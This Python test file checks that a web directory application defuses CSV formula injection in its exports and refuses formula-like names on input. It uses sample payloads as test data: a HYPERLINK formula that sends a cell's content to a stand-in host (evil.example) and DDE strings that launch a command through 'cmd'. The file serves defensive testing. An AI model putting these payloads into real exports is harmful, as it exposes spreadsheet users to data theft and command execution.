"""CSV formula injection: the CSV files people open (directory export, planning coverage table,
import report) prefix formula-like cells with ' (plain numbers and phone numbers left alone); names starting
with = or @ are refused at input (form, organization form, import); the HSDS package keeps its
values exact."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from sqlalchemy import func, select

from webmap.models import Organization, Service
from webmap.spreadsheet import safe_cell
from webmap.transfer.importer import import_file
from webmap.transfer.rows import ImportOptions

from .factories import csrf_token, sign_in
from .test_planning_support import planning, square  # noqa: F401

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1+cmd", "'+1+cmd"), ("-1+cmd", "'-1+cmd"), ("@x", "'@x"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+ x", "'+ x"),
        ("-12", "-12"), ("+3.5", "+3.5"), ("-0,25", "-0,25"),
        ("+225 07 00 00 00 01", "+225 07 00 00 00 01"),
        ("+225 07 00 00 00 01; +225 27 31 00 00 00", "+225 07 00 00 00 01; +225 27 31 00 00 00"),
        ("+225 07 00 00 00 01; =1", "'+225 07 00 00 00 01; =1"),
        ("Centre =1", "Centre =1"), ("", ""), (None, None), (-3, -3),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_directory_csv_export_defuses_every_formula_like_cell(client, make):
    # Records written before names were checked (the factory bypasses the form's validation).
    make.service(name=HYPERLINK, category="ngo", description=DDE, alternate_name=MINUS,
                 phones=("+225 07 00 00 00 02", "+225 27 31 00 00 00"), location={"public_contact": AT})
    make.service(name="Formule témoin", category="ngo", description="-12", alternate_name="+3,5")
    rows = {row["id"]: row for row in _csv(client.get("/export/services.csv?q=formule&status=all"))}
    rows |= {row["id"]: row for row in _csv(client.get("/export/services.csv?q=hyperlink&status=all"))}
    evil = next(row for row in rows.values() if row["name"].startswith("'="))
    assert evil["name"] == "'" + HYPERLINK
    assert evil["description"] == "'" + DDE
    assert evil["alternate_name"] == "'" + MINUS
    assert evil["public_contact"] == "'" + AT
    assert evil["phones"] == "+225 07 00 00 00 02; +225 27 31 00 00 00"  # phone numbers as they are
    plain = next(row for row in rows.values() if row["name"] == "Formule témoin")
    assert plain["description"] == "-12" and plain["alternate_name"] == "+3,5"  # plain numbers too
    assert plain["longitude"].startswith("-5.")  # negative coordinates stay numbers


def test_a_defused_cell_re_imports_as_it_was(client, db_session, make):
    make.service(name="Centre aller-retour tiret", category="ngo", description="- accueil 24 h/24",
                 alternate_name="+Sigle", source="Test aller-retour")
    content = client.get("/export/services.csv?q=aller-retour tiret&status=all").data
    assert b"'- accueil 24 h/24" in content
    report = import_file(db_session, content, "export.csv", ImportOptions(), dry_run=True)
    (row,) = report.rows
    assert row.data.description == "- accueil 24 h/24" and row.data.alternate_name == "+Sigle"


def test_planning_coverage_csv_defuses_formula_like_names(client, planning):  # noqa: F811
    planning.clear()
    planning.admin_area("adm1", "ZZ01", square(-5.0, 3.6, -4.8, 3.8), 1000, parent="ZZ", name=HYPERLINK)
    planning.admin_area("adm1", "ZZ02", square(-4.8, 3.6, -4.6, 3.8), 1000, parent="ZZ", name="@Région")
    response = client.get("/planning/coverage.csv?level=region&from=2025-01-01&to=2025-12-31")
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = {row["P-code"]: row for row in csv.DictReader(io.StringIO(text), delimiter=";")}
    assert rows["ZZ01"]["Nom"] == "'" + HYPERLINK
    assert rows["ZZ02"]["Nom"] == "'@Région"
    assert rows["ZZ01"]["Population 2014"] == "1000"


# --- refused at input ------------------------------------------------------------------------


def _form(org, **overrides):
    data = {
        "name": "Centre d'écoute", "category": "ngo", "organization_id": str(org.id), "status": "active",
        "source": "Visite de terrain", "lat": "7.6900", "lon": "-5.0300", "precision": "exact",
    }
    return {**data, **overrides}


@pytest.mark.parametrize("name", [HYPERLINK, AT])
def test_the_form_refuses_a_name_starting_with_a_formula_sign(client, db_session, make, name):
    org = make.organization("ONG Formules")
    sign_in(client, make.user(role="editor", organizations=[org]))
    before = db_session.scalar(select(func.count()).select_from(Service))
    response = client.post("/directory/services/new",
                           data={**_form(org, name=name), "csrf_token": csrf_token(client)})
    assert response.status_code == 422
    assert "Un nom ne peut pas commencer par = ou @." in response.get_data(as_text=True)
    response = client.post("/directory/services/new",
                           data={**_form(org, alternate_name="=1+1"), "csrf_token": csrf_token(client)})
    assert response.status_code == 422
    assert db_session.scalar(select(func.count()).select_from(Service)) == before
    # A minus or plus sign is a name a person may type ("-" is not refused): it is defused on export.
    response = client.post("/directory/services/new",
                           data={**_form(org, name="-Centre tiret"), "csrf_token": csrf_token(client)})
    assert response.status_code == 302


def test_the_organization_form_refuses_a_formula_name(client, db_session, make):
    sign_in(client, make.user(role="admin"))
    response = client.post("/directory/organizations/new", data={
        "name": "=ONG", "source": "Statuts", "csrf_token": csrf_token(client)})
    assert response.status_code == 422
    assert "Un nom ne peut pas commencer par = ou @." in response.get_data(as_text=True)
    assert db_session.scalar(select(Organization).where(Organization.name == "=ONG")) is None


def test_the_account_form_refuses_a_formula_name(client, db_session, make):
    # An account's name is shown beside its changes: history pages, HSDS metadata.updated_by.
    sign_in(client, make.user(role="admin"))
    response = client.post("/auth/users/new", data={
        "name": "@Agent", "email": "agent@ong.example", "role": "referral",
        "password": "une phrase assez longue", "password_confirm": "une phrase assez longue",
        "csrf_token": csrf_token(client, "/auth/users/new")})
    assert response.status_code == 422
    assert "Un nom ne peut pas commencer par = ou @." in response.get_data(as_text=True)


def test_the_import_refuses_formula_names_and_writes_nothing(client, db_session, make):
    org = make.organization("ONG importatrice")
    sign_in(client, make.user(role="editor", organizations=[org]))
    data = (
        "nom,categorie,source,longitude,latitude\n"
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",ngo,Test,-5.0301,7.6898\n'
        "@Centre,ngo,Test,-6.4503,6.8774\n"
        "Centre correct,ngo,Test,-7.5538,7.4125\n"
    ).encode()
    token = csrf_token(client, "/directory/import")
    response = client.post("/directory/import", data={
        "csrf_token": token, "file": (io.BytesIO(data), "formules.csv"), "organization_id": str(org.id),
    }, content_type="multipart/form-data")
    assert response.status_code == 302
    preview = client.get(response.headers["Location"]).get_data(as_text=True)
    assert preview.count("Un nom ne peut pas commencer par = ou @.") == 2
    assert "Télécharger le rapport (CSV)" in preview
    # The report as a CSV file: every row, formula-like names defused.
    report = client.get(response.headers["Location"] + "/report.csv")
    assert report.headers["Content-Disposition"] == 'attachment; filename="webmap-rapport-import.csv"'
    assert "no-store" in report.headers["Cache-Control"]
    rows = _csv(report)
    assert [row["Ligne"] for row in rows] == ["2", "3", "4"]
    assert rows[0]["Nom"] == "'" + HYPERLINK and rows[0]["Résultat"] == "Erreur"
    assert "Un nom ne peut pas commencer par = ou @." in rows[0]["Pourquoi"]
    assert rows[1]["Nom"] == "'@Centre" and rows[2]["Nom"] == "Centre correct"
    before = db_session.scalar(select(func.count()).select_from(Service))
    response = client.post(response.headers["Location"] + "/commit", data={"csrf_token": token})
    assert db_session.scalar(select(func.count()).select_from(Service)) == before  # all or nothing


def test_hsds_package_keeps_values_exact(client, make):
    make.service(name="Centre HSDS exact", category="ngo", description=MINUS)
    with zipfile.ZipFile(io.BytesIO(client.get("/export/hsds.zip?q=hsds exact").data)) as archive:
        services = list(csv.DictReader(io.StringIO(archive.read("services.csv").decode("utf-8-sig"))))
    assert [s["description"] for s in services if s["name"] == "Centre HSDS exact"] == [MINUS]
